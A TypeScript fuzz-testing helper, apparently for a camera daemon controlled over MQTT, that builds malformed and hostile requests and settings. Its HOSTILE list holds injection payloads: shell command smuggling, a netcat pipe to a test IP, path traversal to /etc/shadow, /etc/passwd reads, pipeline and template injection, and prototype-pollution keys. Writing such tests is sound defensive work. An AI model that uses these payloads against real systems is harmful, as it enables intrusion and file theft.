import { changeRule, ruledSettings } from '../../config/change-rules.ts';
import { COMMANDS } from '../../daemon/control/commands.ts';
import type { SeededRandom } from './seeded-random.ts';

/** What would be something else to a shell, a launch string, a path, a URL, a template, a prototype, a number parser. */
export const HOSTILE: readonly unknown[] = [
  '; touch /tmp/pwned',
  '$(reboot)',
  '`id`',
  '| nc 192.0.2.1 80',
  'ball ! filesink location=/tmp/pwned videotestsrc',
  '" ! multifilesink location="/etc/passwd',
  '../../../../etc/shadow',
  '/dev/sda',
  '/proc/self/mem',
  'file:///etc/passwd',
  'http://192.0.2.1/x',
  'rtsp://user:pass@192.0.2.1/',
  '{{ 7*7 }}',
  '%s%n%x',
  'camera\0porch',
  'camera\r\nX: y',
  'camera/#',
  '+/+',
  '$SYS/x',
  '__proto__',
  'constructor',
  'a'.repeat(5000),
  '\u202e\ud800',
  '',
  'v=0\r\no=- 1 1 IN IP4 192.0.2.1\r\ns=-\r\nt=0 0\r\nm=video 9 UDP/TLS/RTP/SAVPF 96\r\n',
  -1,
  0,
  1e308,
  -1e308,
  2 ** 53,
  0.1,
  Number.MIN_VALUE,
  true,
  false,
  null,
  [],
  {},
  [[[[[[[[[[[[[[[[[[[[]]]]]]]]]]]]]]]]]]]],
  { constructor: { prototype: { x: 1 } } },
  { toString: 1, valueOf: 2, length: 1e9 },
];

/** The settings of a stream that can be changed over MQTT, with one of them hostile. */
export const HOSTILE_SETTINGS: readonly { path: string; value: unknown; settings: object }[] = ruledSettings()
  .filter((name) => name.startsWith('streams.*.') && changeRule(name.split('.'))?.remote)
  .flatMap((name) => {
    const path = name.split('.').slice(2);
    // Deeper ones are no request at all: their answers have no transaction.
    return HOSTILE.filter((value) => (JSON.stringify(value) ?? '').split('[').length < 10).map((value) => ({
      path: path.join('.'),
      value,
      settings: path.reduceRight<unknown>((inner, key) => (key === '*' ? [inner] : { [key]: inner }), value) as object,
    }));
  });

export interface HostileRequest {
  command: string;
  payload: Buffer;
}

const NAMES = Object.keys(COMMANDS);

/** A request that a hostile or broken client of the broker may send; some are good ones. */
export function hostileRequest(random: SeededRandom): HostileRequest {
  const one = <T>(list: readonly T[]): T => list[random.integer(0, list.length - 1)] as T;
  const name = one(NAMES);
  const command = random.integer(0, 9) === 0 ? JSON.stringify(one(HOSTILE)) : name;
  switch (random.integer(0, 6)) {
    case 0:
      return { command, payload: random.bytes(random.integer(0, 200)) };
    case 1:
      return { command, payload: text(one(HOSTILE)) };
    case 2:
      return { command, payload: text(COMMANDS[name]?.example ?? {}) };
    case 3: {
      const good = text(COMMANDS[name]?.example ?? {});
      if (good.length > 0) good[random.integer(0, good.length - 1)] = random.integer(0, 255);
      return { command, payload: good };
    }
    case 4: {
      const { settings } = one(HOSTILE_SETTINGS);
      const request = { name: 'camera', settings, patch: { streams: { camera: settings } } };
      const [commandOfStream, ...members] = one([
        ['stream/update', 'name', 'settings'],
        ['config/patch', 'patch'],
      ] as const);
      return { command: commandOfStream, payload: text(Object.fromEntries(members.map((key) => [key, request[key]]))) };
    }
    default: {
      const request: Record<string, unknown> = { ...COMMANDS[name]?.example };
      const members = [...Object.keys(COMMANDS[name]?.request.properties ?? {}), 'transaction', 'deadline', 'x'];
      for (let i = random.integer(1, 3); i > 0; i--) {
        const member = one(members);
        request[member] = poisoned(request[member], random);
      }
      return { command, payload: text(request) };
    }
  }
}

/** A value in place of another one, or of something inside of it. */
function poisoned(value: unknown, random: SeededRandom): unknown {
  const inside: Record<string, unknown> = typeof value === 'object' ? { ...value } : {};
  const keys = Object.keys(inside);
  const key = keys[random.integer(0, keys.length)];
  if (key === undefined) return HOSTILE[random.integer(0, HOSTILE.length - 1)];
  return { ...inside, [key]: poisoned(inside[key], random) };
}

function text(value: unknown): Buffer {
  return Buffer.from(JSON.stringify(value));
}
